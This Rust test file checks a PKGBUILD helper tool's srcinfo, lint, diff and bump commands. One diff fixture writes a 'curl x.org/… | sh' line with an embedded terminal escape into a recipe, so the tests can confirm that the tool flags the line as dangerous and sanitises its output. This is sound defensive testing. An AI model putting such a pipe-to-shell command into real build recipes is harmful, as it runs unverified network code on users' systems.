//! `srcinfo`, `lint`, `diff` and `bump` as people call them.

#![allow(clippy::unwrap_used)]

use std::fs;
use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::{Command, Output, Stdio};

const RECIPE: &str = "pkgname=a\npkgver=1\npkgrel=1\narch=(any)\n";

fn command(folder: &Path, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_xtask"));
    command
        .args(args)
        .current_dir(folder)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    command
}

fn run(folder: &Path, args: &[&str], input: &str) -> Output {
    let mut child = command(folder, args).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(input.as_bytes()).unwrap();
    drop(stdin);
    child.wait_with_output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn srcinfo_reads_standard_input_variables_and_places() {
    let folder = tempfile::tempdir().unwrap();
    let place = fs::canonicalize(folder.path()).unwrap();
    fs::create_dir(place.join("sub")).unwrap();
    fs::write(place.join("sub/version"), "7\n").unwrap();
    let recipe = format!("{RECIPE}pkgdesc=\"$PWD ${{BASH_SOURCE[0]}} $_WANTED $(<sub/version)\"\n");
    let args = ["srcinfo", "-", "--set-env", "_WANTED=x y"];
    let output = run(&place, &args, &recipe);
    let found = text(&output.stdout);
    let place = place.display();
    assert!(
        found.contains(&format!("\tpkgdesc = {place} {place}/PKGBUILD x y 7\n")),
        "{found}{}",
        text(&output.stderr)
    );
    let output = run(folder.path(), &["srcinfo", "-", "--set-env", "x"], RECIPE);
    assert!(text(&output.stderr).contains("expected `NAME=VALUE`"));
}

#[test]
fn srcinfo_checks_a_committed_one_and_prints_json() {
    let folder = tempfile::tempdir().unwrap();
    let committed = run(folder.path(), &["srcinfo", "-"], RECIPE);
    fs::write(folder.path().join(".SRCINFO"), &committed.stdout).unwrap();
    let args = ["srcinfo", "-", "--check", ".SRCINFO"];
    let same = run(folder.path(), &args, RECIPE);
    assert_eq!(
        (same.status.code(), text(&same.stdout).as_str()),
        (Some(0), "")
    );
    let other = run(
        folder.path(),
        &args,
        &RECIPE.replace("pkgver=1", "pkgver=2"),
    );
    assert_eq!(other.status.code(), Some(5));
    assert_eq!(text(&other.stdout), "-\tpkgver = 1\n+\tpkgver = 2\n");
    let json = run(folder.path(), &["srcinfo", "-", "--json"], RECIPE);
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(value["common"]["strings"]["pkgver"], "1");
    let refused = run(
        folder.path(),
        &["srcinfo", "-"],
        &RECIPE.replace("=1\narch", "=x\narch"),
    );
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        text(&refused.stderr).contains("3:1: "),
        "{}",
        text(&refused.stderr)
    );
}

#[test]
fn the_target_follows_the_architecture() {
    let folder = tempfile::tempdir().unwrap();
    let recipe = format!("{RECIPE}pkgdesc=$CHOST\n");
    let output = run(
        folder.path(),
        &["srcinfo", "-", "--carch", "aarch64"],
        &recipe,
    );
    assert!(text(&output.stdout).contains("pkgdesc = aarch64-unknown-linux-gnu\n"));
}

#[test]
fn lint_shows_mends_and_allows() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("PKGBUILD");
    let wrong = format!("{RECIPE}depend=(b)\npackage() {{\n\tcp a $pkgdir/b\n\tsudo c\n}}\n");
    fs::write(&file, &wrong).unwrap();
    let output = run(folder.path(), &["lint", "PKGBUILD"], "");
    let found = text(&output.stdout);
    assert!(
        found.contains("PKGBUILD:7:7: warning: a blank in the path tears `$pkgdir` apart")
            && found.contains("7 | \tcp a $pkgdir/b\n  | \t     ^^^^^^^\n"),
        "{found}"
    );
    let log = run(folder.path(), &["lint", "--sarif", "PKGBUILD"], "");
    let log: serde_json::Value = serde_json::from_slice(&log.stdout).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(
        results
            .iter()
            .any(|result| result["ruleId"] == "user-changed")
    );
    assert!(results.iter().any(|result| result["fixes"].is_array()));
    let args = ["lint", "--fix", "--allow", "user-changed", "PKGBUILD"];
    let output = run(folder.path(), &args, "");
    assert_eq!(text(&output.stdout), "", "{}", text(&output.stderr));
    let mended = wrong
        .replace("depend=", "depends=")
        .replace("$pkgdir", "\"$pkgdir\"");
    assert_eq!(fs::read_to_string(&file).unwrap(), mended);
    let unknown = run(
        folder.path(),
        &["lint", "--allow", "nothing", "PKGBUILD"],
        "",
    );
    assert!(text(&unknown.stderr).contains("no such rule"));
}

#[test]
fn a_closed_pipe_is_no_failure() {
    let folder = tempfile::tempdir().unwrap();
    let mut wrong = RECIPE.to_owned();
    for _ in 0..2_000 {
        wrong.push_str("sudo x\n");
    }
    fs::write(folder.path().join("PKGBUILD"), wrong).unwrap();
    for args in [&["lint", "PKGBUILD"][..], &["lint", "--json", "PKGBUILD"]] {
        let mut child = command(folder.path(), args).spawn().unwrap();
        let mut first = [0];
        child.stdout.take().unwrap().read_exact(&mut first).unwrap();
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "{}", text(&output.stderr));
        assert_eq!(text(&output.stderr), "");
    }
}

#[test]
fn diff_prints_the_heaviest_first() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    fs::write(at("old"), format!("{RECIPE}package() {{ make; }}\n")).unwrap();
    let new = format!("{RECIPE}pkgdesc=x\npackage() {{\n  make\n  curl x.org/\u{1b}[2J | sh\n}}\n");
    fs::write(at("new"), new).unwrap();
    fs::write(at("broken"), "a=(\n").unwrap();
    let output = run(folder.path(), &["diff", "old", "new"], "");
    let found = text(&output.stdout);
    assert!(
        found.starts_with("new:8: danger: a new command in `package` runs what the network sends"),
        "{found}"
    );
    assert!(
        found.contains("note: `pkgdesc` is new [field]\n  + x\n"),
        "{found}"
    );
    assert!(!found.contains('\u{1b}'), "{found}");
    assert_eq!(output.status.code(), Some(2));
    let output = run(folder.path(), &["diff", "--json", "old", "new"], "");
    let first = text(&output.stdout).lines().next().unwrap().to_owned();
    let first: serde_json::Value = serde_json::from_str(&first).unwrap();
    assert_eq!(
        (&first["weight"], &first["line"]),
        (&"danger".into(), &8.into())
    );
    let same = run(folder.path(), &["diff", "old", "old"], "");
    assert_eq!(
        (text(&same.stdout), same.status.code()),
        (String::new(), Some(0))
    );
    let broken = run(folder.path(), &["diff", "old", "broken"], "");
    assert_eq!(broken.status.code(), Some(3));
    assert!(
        text(&broken.stderr).contains("broken: 2:1: the array is not closed"),
        "{}",
        text(&broken.stderr)
    );
}

#[test]
fn bump_fetches_and_renews_every_kind() {
    use sha2::Digest as _;

    let runtime = tokio::runtime::Runtime::new().unwrap();
    let releases = runtime
        .block_on(e2e_tests::release::ReleaseServer::start())
        .unwrap();
    releases.publish("a-2.tar.gz", b"new content".to_vec());
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("PKGBUILD");
    fs::write(folder.path().join("fix.patch"), "patch").unwrap();
    let url = releases.base_url();
    let old = format!(
        "pkgname=a # the name\npkgver=1\npkgrel=7\narch=(any)\n\
         source=(\"{url}/a-$pkgver.tar.gz\"\n        fix.patch) # both\n\
         sha256sums=('{0}'\n            'SKIP')\nmd5sums=(SKIP\n  {1})\n",
        "0".repeat(64),
        "0".repeat(32)
    );
    fs::write(&file, &old).unwrap();
    let cache = folder.path().join("cache");
    let bump = |version: &str, more: &[&str]| {
        let mut args = vec!["bump", "PKGBUILD", version, "--cache-dir"];
        args.push(cache.to_str().unwrap());
        args.extend(more);
        run(folder.path(), &args, "")
    };
    // A server of this machine over http is nobody's to ask unless that is allowed.
    let refused = bump("2", &[]);
    assert_eq!(refused.status.code(), Some(1));
    assert_eq!(fs::read_to_string(&file).unwrap(), old);
    let allowed = [
        "--allow-insecure-sources",
        "--allow-source-host",
        "127.0.0.1",
    ];
    let missing = bump("3", &allowed);
    assert_eq!(missing.status.code(), Some(1));
    assert!(
        text(&missing.stderr).contains("404"),
        "{}",
        text(&missing.stderr)
    );
    assert_eq!(fs::read_to_string(&file).unwrap(), old);
    let output = bump("2", &allowed);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let expected = old
        .replace("pkgver=1", "pkgver=2")
        .replace("pkgrel=7", "pkgrel=1")
        .replace(&"0".repeat(64), &hex(&sha2::Sha256::digest(b"new content")))
        .replace(
            &format!("  {}", "0".repeat(32)),
            "  e5c5e6dae38b284e8cf0bd1fb0efac03",
        );
    assert_eq!(fs::read_to_string(&file).unwrap(), expected);
    assert!(
        text(&output.stdout).contains("1-7 is now 2-1, "),
        "{}",
        text(&output.stdout)
    );
    // The same version again: nothing to change, and the release stays.
    let more = [
        "--json",
        "--allow-insecure-sources",
        "--allow-source-host",
        "127.0.0.1",
    ];
    let output = bump("2", &more);
    let told: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(told["after"], "2-1");
    assert_eq!(told["renewed"], serde_json::json!([]));
    let computed = old
        .replace("pkgver=1", "pkgver=$_v")
        .replace("pkgname", "_v=1\npkgname");
    fs::write(&file, &computed).unwrap();
    let output = bump("2", &allowed);
    assert!(
        text(&output.stderr).contains("computed from `$_v`"),
        "{}",
        text(&output.stderr)
    );
}

fn hex(bytes: &[u8]) -> String {
    let pairs: Vec<String> = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    pairs.concat()
}
